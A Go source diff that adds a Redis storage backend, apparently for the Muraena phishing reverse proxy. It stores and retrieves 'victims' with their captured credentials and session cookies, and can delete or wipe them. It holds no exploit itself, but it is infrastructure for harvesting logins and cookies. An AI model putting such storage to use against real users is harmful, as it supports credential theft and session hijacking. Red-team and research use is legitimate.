@@ -0,0 +1,283 @@
+package db
+
+import (
+	"fmt"
+
+	"github.com/gomodule/redigo/redis"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// redisStorage keeps the tracking data in Redis, using the session connection pool.
+// KEY scheme:
+// victims: list of the victim IDs
+// victim:<ID>: the victim
+// victim:<ID>:creds:<COUNT>: the victim credentials
+// victim:<ID>:cookiejar:<COOKIE_NAME>: the victim cookies
+type redisStorage struct{}
+
+// StoreVictim saves a Victim in the database
+func (r *redisStorage) StoreVictim(v *Victim) error {
+
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	key := fmt.Sprintf("victim:%s", v.ID)
+	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(v)...); err != nil {
+		log.Error("error doing redis HMSET: %s. victim not saved.", err)
+		return err
+	}
+
+	// push the Victim.ID
+	_, err := rc.Do("RPUSH", "victims", v.ID)
+	if err != nil {
+		return err
+	}
+
+	return nil
+}
+
+// StoreCredential saves a VictimCredential in the database
+func (r *redisStorage) StoreCredential(victimID string, vc *VictimCredential) error {
+
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	v, err := r.GetVictim(victimID)
+	if err != nil {
+		return err
+	}
+
+	// store the credentials
+	key := fmt.Sprintf("victim:%s:creds:%d", victimID, v.CredsCount)
+	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(vc)...); err != nil {
+		log.Error("error doing redis HMSET: %s. victim creds not saved.", err)
+		return err
+	}
+
+	// increase the credentials count
+	// TODO implement this with REDIS HINCRBY
+	key = fmt.Sprintf("victim:%s", victimID)
+	increment := make(map[string]string)
+	increment["creds_count"] = fmt.Sprintf("%d", v.CredsCount+1)
+
+	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(increment)...); err != nil {
+		log.Error("error doing redis HMSET: %s. victim creds not saved.", err)
+		return err
+	}
+
+	return nil
+}
+
+// StoreCookie saves a Cookie in the database
+func (r *redisStorage) StoreCookie(victimID string, vc *VictimCookie) error {
+
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	key := fmt.Sprintf("victim:%s:cookiejar:%s", victimID, vc.Name)
+
+	jarEntry, err := redis.Values(rc.Do("HGETALL", key))
+	if err != nil {
+		return err
+	}
+
+	var vCookie VictimCookie
+	err = redis.ScanStruct(jarEntry, &vCookie)
+	if err != nil {
+		return err
+	}
+
+	// check if the cookie is already stored.
+	// if it is, just updates its values but do not add an entry to the cookie names list
+	if vCookie.Name == "" {
+		// store the cookie name only if not present already
+		_, err = rc.Do("RPUSH", fmt.Sprintf("victim:%s:cookiejar_entries", victimID), vc.Name)
+		if err != nil {
+			return err
+		}
+	}
+
+	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(vc)...); err != nil {
+		return err
+	}
+
+	return nil
+}
+
+// GetVictim returns a Victim from database
+func (r *redisStorage) GetVictim(victimID string) (*Victim, error) {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	var v Victim
+	vid := fmt.Sprintf("victim:%s", victimID)
+	value, err := redis.Values(rc.Do("HGETALL", vid))
+	if err != nil {
+		return nil, err
+	}
+
+	err = redis.ScanStruct(value, &v)
+	if err != nil {
+		return nil, err
+	}
+
+	// Populate Credentials
+	if v.Credentials, err = r.GetCredentials(v.ID); err != nil {
+		return nil, err
+	}
+
+	// Populate Cookies
+	if v.Cookies, err = r.GetCookies(v.ID); err != nil {
+		return nil, err
+	}
+
+	return &v, nil
+}
+
+// GetCredentials returns the credentials of a victim
+func (r *redisStorage) GetCredentials(victimID string) ([]VictimCredential, error) {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	credentials := []VictimCredential{}
+	cKeys, err := redis.Values(rc.Do("KEYS", fmt.Sprintf("victim:%s:creds:*", victimID)))
+	if err != nil {
+		return nil, err
+	}
+
+	for _, k := range cKeys {
+		creds, err := redis.Values(rc.Do("HGETALL", k))
+		if err != nil {
+			log.Error("%v", err)
+			continue
+		}
+
+		var vc VictimCredential
+		err = redis.ScanStruct(creds, &vc)
+		if err != nil {
+			log.Error("%v", err)
+			continue
+		}
+
+		credentials = append(credentials, vc)
+	}
+
+	return credentials, nil
+}
+
+// GetCookies returns the cookie jar of a victim
+func (r *redisStorage) GetCookies(victimID string) ([]VictimCookie, error) {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	jar := []VictimCookie{}
+
+	cKeys, err := redis.Values(rc.Do("KEYS", fmt.Sprintf("victim:%s:cookiejar:*", victimID)))
+	if err != nil {
+		return nil, err
+	}
+
+	for _, k := range cKeys {
+		cookies, err := redis.Values(rc.Do("HGETALL", k))
+		if err != nil {
+			log.Error("%v", err)
+			continue
+		}
+
+		var vc VictimCookie
+		err = redis.ScanStruct(cookies, &vc)
+		if err != nil {
+			log.Error("%v", err)
+			continue
+		}
+
+		jar = append(jar, vc)
+	}
+
+	return jar, nil
+}
+
+// GetVictimIDs returns all the victim IDs stored in the database
+func (r *redisStorage) GetVictimIDs() ([]string, error) {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	return redis.Strings(rc.Do("LRANGE", "victims", "0", "-1"))
+}
+
+// SetSessionInstrumented sets the session_instrumented field of a victim
+func (r *redisStorage) SetSessionInstrumented(victimID string) error {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	key := fmt.Sprintf("victim:%s", victimID)
+	if _, err := rc.Do("HSET", key, "session_instrumented", true); err != nil {
+		log.Error("error doing redis HSET: %s. session_instrumented field not saved.", err)
+		return err
+	}
+
+	return nil
+}
+
+// SetSessionComplete sets the session_complete field of a victim
+func (r *redisStorage) SetSessionComplete(victimID string, profile string) error {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	key := fmt.Sprintf("victim:%s", victimID)
+	if _, err := rc.Do("HSET", key, "session_complete", profile); err != nil {
+		log.Error("error doing redis HSET: %s. session_complete field not saved.", err)
+		return err
+	}
+
+	return nil
+}
+
+// DeleteVictim implements the Storage interface
+func (r *redisStorage) DeleteVictim(victimID string) error {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	key := fmt.Sprintf("victim:%s", victimID)
+	keys, err := redis.Strings(rc.Do("KEYS", key+":*"))
+	if err != nil {
+		return err
+	}
+
+	if _, err := rc.Do("DEL", redis.Args{}.Add(key).AddFlat(keys)...); err != nil {
+		return err
+	}
+
+	_, err = rc.Do("LREM", "victims", 0, victimID)
+	return err
+}
+
+// Wipe implements the Storage interface. Only the tracking keys are deleted, as the database may be shared.
+func (r *redisStorage) Wipe() error {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	keys, err := redis.Strings(rc.Do("KEYS", "victim:*"))
+	if err != nil {
+		return err
+	}
+
+	_, err = rc.Do("DEL", redis.Args{}.Add("victims").AddFlat(keys)...)
+	return err
+}
+
+// Ping implements the Storage interface
+func (r *redisStorage) Ping() error {
+	rc := session.RedisPool.Get()
+	defer rc.Close()
+
+	_, err := rc.Do("PING")
+	return err
+}
+
+// Close implements the Storage interface, the connection pool is owned by the session
+func (r *redisStorage) Close() error {
+	return nil
+}